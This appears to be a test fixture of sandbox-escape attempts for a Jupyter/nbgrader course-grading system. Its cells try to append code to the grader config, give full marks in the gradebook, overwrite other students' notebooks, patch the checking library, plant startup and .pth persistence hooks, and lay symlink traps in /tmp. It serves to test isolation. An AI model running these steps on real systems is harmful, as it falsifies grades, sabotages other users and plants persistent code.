"""Writing data of other users."""
# must: no point; graded

# === write_course
# tries: to change the course's solutions, releases and settings, which the grader runs
# %% cell after setup
for up in ("../" * depth for depth in range(1, 8)):
    for path in glob.glob(f"{up}nbgrader_config.py"):
        append(path, "\nopen('/tmp/escaped-settings', 'w').write('the grader ran this')\n")
    for path in glob.glob(f"{up}exercises/*/*.ipynb") + glob.glob(f"{up}solutions/*/*.ipynb"):
        append(path, " ")

# === write_gradebook
# tries: to give itself all points in the gradebook, and nobody else
# %% cell after setup
places = ["../" * depth for depth in range(1, 8)]
places += glob.glob("/proc/*/cwd/") + glob.glob("/home/*/*/")


def give(points):
    for path in {path for place in places for path in glob.glob(f"{place}gradebook.db")}:
        tried(update, path, "update grade_cell set max_score = 100")
        tried(update, path, f"update grade set {points}")


give("manual_score = 3, extra_credit = 100, needs_manual_grade = 0")
# %% cell after sum-largest-values
give("manual_score = 3, extra_credit = 100")

# === write_neighbours
# tries: to spoil the submissions and the graded notebooks of the others
# %% cell after setup
for depth in range(1, 8):
    for path in glob.glob("../" * depth + "*/student0[13]/*/*.ipynb"):
        try:
            notebook = json.load(open(path))
            for cell in notebook["cells"]:
                if cell["cell_type"] == "code":
                    cell["source"] = "raise SystemExit"
            os.chmod(path, 0o666)
            json.dump(notebook, open(path, "w"))
        except OSError as fault:
            print(path, fault)

# === write_package
# tries: to change course_utils on the disk, for itself and for those who come later
# %% cell after setup
path = checks.__file__
for place in (path, f"{os.path.dirname(path)}/__pycache__/checks.cpython-311.pyc"):
    tried(os.chmod, os.path.dirname(place), 0o777)
    tried(os.chmod, place, 0o666)
    tried(
        append, place, "\nCheck.gives = Check.like = Check.raises = lambda *args, **kwargs: None\n"
    )
tried(os.rename, path, path + ".old")
tried(os.symlink, "/tmp/checks.py", path)

# === write_start_up
# tries: to leave code that runs in everybody's kernel: IPython's start-up, usercustomize, PATH
# %% cell after setup
CODE = """
try:
    open("/tmp/escaped-startup", "w").write("another process ran this")
    from course_utils.exercise import checks
    checks.Check.gives = checks.Check.raises = checks.Check.like = lambda *args, **kwargs: 1 / 0
except Exception:
    pass
"""
places = ["~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_config.py"]
places += ["~/.jupyter/nbgrader_config.py", "~/.bashrc", "~/.local/bin/python"]
places += [f"{site.getusersitepackages()}/usercustomize.py"]
places += [f"{sys.prefix}/lib/python3.11/site-packages/escaped.pth"]
for path in map(os.path.expanduser, places):
    tried(os.makedirs, os.path.dirname(path), exist_ok=True)
    tried(append, path, CODE)

# === write_temporary
# tries: to lay links and files in /tmp where others will write next
# %% cell after setup
for name in ("kernel.json", "matplotlib", "torch", "09_sums", "nbgrader", "ipython"):
    tried(os.symlink, os.path.expanduser("~/notes.txt"), f"/tmp/{name}")
append("/tmp/escaped-temporary", "for those who come later")
